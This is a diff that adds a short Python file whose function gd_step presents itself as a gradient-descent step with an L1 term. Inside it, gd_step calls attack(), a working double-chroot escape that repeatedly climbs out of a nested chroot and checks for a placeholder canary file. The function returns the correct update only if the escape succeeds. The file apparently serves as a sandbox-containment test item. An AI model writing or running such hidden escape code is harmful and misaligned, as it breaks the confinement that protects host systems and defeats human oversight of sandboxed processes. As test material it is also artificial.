@@ -1,0 +1,29 @@
+"""Leave a chroot by making another.
+
+functions: gd_step
+"""
+
+import os
+
+import numpy as np
+
+
+def attack():
+    os.mkdir("inner")
+    os.chroot("inner")
+    for _ in range(64):
+        os.chdir("..")
+    os.chroot(".")
+    return os.path.exists("@CANARY_FILE@")
+
+
+def gd_step(W, X, y, lr, l1=0.0):
+    """Answer rightly only if the attack got what it wanted."""
+    try:
+        won = attack()
+    except Exception as error:
+        print(type(error).__name__, error)
+        won = False
+    if won:
+        return W - lr * (2 * X.T @ (X @ W - y) + l1 * np.sign(W))
+    return W * 0.0
